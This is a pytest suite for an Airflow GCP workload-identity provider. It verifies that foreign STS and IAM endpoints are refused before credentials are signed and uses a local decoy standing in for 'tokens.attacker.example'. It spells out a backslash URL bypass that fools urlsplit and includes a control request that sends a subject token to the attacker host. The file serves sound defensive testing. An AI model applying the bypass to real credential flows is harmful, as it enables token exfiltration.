"""An STS or IAM Credentials endpoint that is not Google's and not allowed by the deployment is refused before
anything is signed: on the plain settings path and on the Airflow hook path (``WifBinding.for_hook``, and a stock
``GCSHook``). A decoy listens where the endpoint points (its host name resolves to it) and receives nothing; with
the host allowed by the deployment, the same settings do reach it, so the decoy would have seen a leak. The
deployment lists the emulator's loopback host, which the other endpoint points at (loopback is admitted only when
listed).
(The STS endpoint through ``TokenService`` is covered in tests/core/test_token_service.py.)"""

from __future__ import annotations

import json
import socket

import pytest

from airflow_provider_gcp_wif.config import WifSettings
from airflow_provider_gcp_wif.credentials import WifCredentials
from airflow_provider_gcp_wif.errors import WifConfigError, WifExchangeError
from tests.fixtures import emulator_hosts, listening_decoy

EVIL_HOST = "tokens.attacker.example"


@pytest.fixture
def decoy(monkeypatch):
    """A listening socket that ``tokens.attacker.example`` resolves to; collects whatever reaches it."""
    real_getaddrinfo = socket.getaddrinfo

    def resolve(host, *args, **kwargs):
        return real_getaddrinfo("127.0.0.1" if host == EVIL_HOST else host, *args, **kwargs)

    with listening_decoy() as port_and_received:
        monkeypatch.setattr(socket, "getaddrinfo", resolve)
        yield port_and_received


def extras_for(info, **changes):
    extras = {"project_number": info["project_number"], "pool_id": info["pool_id"],
              "provider_id": info["provider_id"], "impersonation_chain": info["service_account"],
              "sts_endpoint": info["sts_endpoint"], "iam_endpoint": info["iam_endpoint"], "num_retries": 0}
    extras.update(changes)
    return extras


@pytest.mark.parametrize("field", ["sts_endpoint", "iam_endpoint"])
def test_a_foreign_endpoint_is_refused_on_the_settings_path(emulator, aws_env, decoy, field):
    port, received = decoy
    url = f"https://{EVIL_HOST}:{port}" + ("/v1/token" if field == "sts_endpoint" else "")
    with pytest.raises(WifConfigError) as caught:
        WifSettings.from_extras(extras_for(aws_env, **{field: url}), allowed_endpoint_hosts=emulator_hosts(aws_env))
    assert caught.value.field == field and "allowed_endpoint_hosts" in caught.value.fix
    assert received == [] and emulator.control.requests() == []


@pytest.mark.parametrize("field", ["sts_endpoint", "iam_endpoint"])
def test_a_foreign_endpoint_is_refused_on_the_hook_path_even_if_the_connection_allows_it(
    emulator, aws_env, decoy, monkeypatch, field
):
    from airflow_provider_gcp_wif.integration import WifBinding

    port, received = decoy
    monkeypatch.setenv("AIRFLOW__GCP_WIF__ALLOWED_ENDPOINT_HOSTS", emulator_hosts(aws_env))
    url = f"https://{EVIL_HOST}:{port}" + ("/v1/token" if field == "sts_endpoint" else "")
    extras = extras_for(aws_env, **{field: url}, allowed_endpoint_hosts=EVIL_HOST)  # an editor cannot loosen it
    with pytest.raises(WifConfigError) as caught:
        WifBinding.for_hook("gcp_wif_evil", extras)
    assert caught.value.field == field and caught.value.conn_id == "gcp_wif_evil"
    assert received == [] and emulator.control.requests() == []


def test_a_stock_hook_on_a_connection_with_a_foreign_endpoint_fails_before_any_request(emulator, aws_env, decoy,
                                                                                      monkeypatch):
    from importlib.metadata import entry_points

    (plugin,) = [ep for ep in entry_points(group="airflow.plugins") if ep.name == "gcp_wif"]
    plugin.load()
    port, received = decoy
    monkeypatch.setenv("AIRFLOW__GCP_WIF__ALLOWED_ENDPOINT_HOSTS", emulator_hosts(aws_env))
    for key, value in aws_env["env"].items():
        if key.startswith("AIRFLOW_CONN_"):
            monkeypatch.setenv(key, value)
    extras = extras_for(aws_env, iam_endpoint=f"https://{EVIL_HOST}:{port}")
    monkeypatch.setenv("AIRFLOW_CONN_GCP_WIF_EVIL", json.dumps({"conn_type": "gcp_wif", "extra": extras}))
    from airflow.providers.google.cloud.hooks.gcs import GCSHook

    with pytest.raises(WifConfigError) as caught:
        GCSHook(gcp_conn_id="gcp_wif_evil")
    assert caught.value.field == "iam_endpoint"
    assert received == [] and emulator.control.requests() == []


def test_the_decoy_does_receive_the_exchange_once_the_deployment_allows_its_host(emulator, aws_env, decoy,
                                                                                 role_supplier, google_request):
    """The control: were the allow-list missing, the signed exchange would reach the decoy."""
    port, received = decoy
    settings = WifSettings.from_extras(extras_for(aws_env, sts_endpoint=f"https://{EVIL_HOST}:{port}/v1/token"),
                                       allowed_endpoint_hosts=f"{EVIL_HOST},{emulator_hosts(aws_env)}")
    with pytest.raises(WifExchangeError):
        WifCredentials(settings, role_supplier(), retry_initial_delay=0.01).force_refresh(google_request)
    assert received and received[0], "the decoy saw the connection (a TLS hello carrying the exchange's host)"
    assert EVIL_HOST.encode() in received[0]


@pytest.mark.parametrize("route", ["sts_endpoint", "iam_endpoint", "token_url", "service_account_impersonation_url"])
def test_the_backslash_bypass_is_refused_and_the_decoy_it_points_at_receives_nothing(
    emulator, aws_env, decoy, monkeypatch, route
):
    """``https://tokens.attacker.example\\.googleapis.com`` looks like a googleapis.com host to ``urlsplit``, but
    requests connects to ``tokens.attacker.example`` on port 443 (here: the decoy). Refused on every route."""
    import requests

    port, received = decoy
    resolve_host_only = socket.getaddrinfo

    def resolve(host, service, *args, **kwargs):  # ...and the decoy stands in for port 443 of that host
        return resolve_host_only(host, port if host == EVIL_HOST and service == 443 else service, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", resolve)
    bypass = f"https://{EVIL_HOST}\\.googleapis.com"
    # The control: the sending library itself does take this string to the decoy.
    with pytest.raises(requests.RequestException):
        requests.post(bypass + "/v1/token", data={"subject_token": "x"}, timeout=5)
    assert received and EVIL_HOST.encode() in received[0]
    received.clear()

    if route in ("sts_endpoint", "iam_endpoint"):
        extras = extras_for(aws_env, **{route: bypass + ("/v1/token" if route == "sts_endpoint" else "")})
    else:
        config = {"type": "external_account", "subject_token_type": "urn:ietf:params:aws:token-type:aws4_request",
                  "audience": f"//iam.googleapis.com/projects/{aws_env['project_number']}/locations/global/"
                              f"workloadIdentityPools/{aws_env['pool_id']}/providers/{aws_env['provider_id']}"}
        config[route] = bypass + ("/v1/token" if route == "token_url" else
                                  f"/v1/projects/-/serviceAccounts/{aws_env['service_account']}:generateAccessToken")
        extras = {"credential_config": json.dumps(config), "num_retries": 0}
    with pytest.raises(WifConfigError) as caught:
        WifSettings.from_extras(extras, allowed_endpoint_hosts=emulator_hosts(aws_env))
    assert caught.value.field in (route, "credential_config") and "backslash" in caught.value.problem
    assert received == [] and emulator.control.requests() == []


@pytest.mark.parametrize("field", ["sts_endpoint", "iam_endpoint"])
def test_a_local_listener_the_deployment_does_not_list_receives_nothing_over_plain_http(
    emulator, aws_env, decoy, monkeypatch, role_supplier, google_request, field
):
    """Another local user's listener (here ``http://localhost:<port>``, while the deployment lists only the
    emulator's ``127.0.0.1``): refused on the hook path whatever the connection says; once the deployment lists
    ``localhost``, the exchange does reach it (the control: it would have received the credential)."""
    from airflow_provider_gcp_wif.integration import WifBinding

    port, received = decoy
    monkeypatch.setenv("AIRFLOW__GCP_WIF__ALLOWED_ENDPOINT_HOSTS", emulator_hosts(aws_env))
    url = f"http://localhost:{port}" + ("/v1/token" if field == "sts_endpoint" else "")
    with pytest.raises(WifConfigError) as caught:
        WifBinding.for_hook("gcp_wif_local", extras_for(aws_env, **{field: url}, allowed_endpoint_hosts="localhost"))
    assert caught.value.field == field and "allowed_endpoint_hosts" in caught.value.fix
    assert received == [] and emulator.control.requests() == []

    listed = WifSettings.from_extras(extras_for(aws_env, **{field: url}),
                                     allowed_endpoint_hosts=f"localhost,{emulator_hosts(aws_env)}")
    with pytest.raises(WifExchangeError):
        WifCredentials(listed, role_supplier(), retry_initial_delay=0.01).force_refresh(google_request)
    assert received and received[0].startswith(b"POST ")
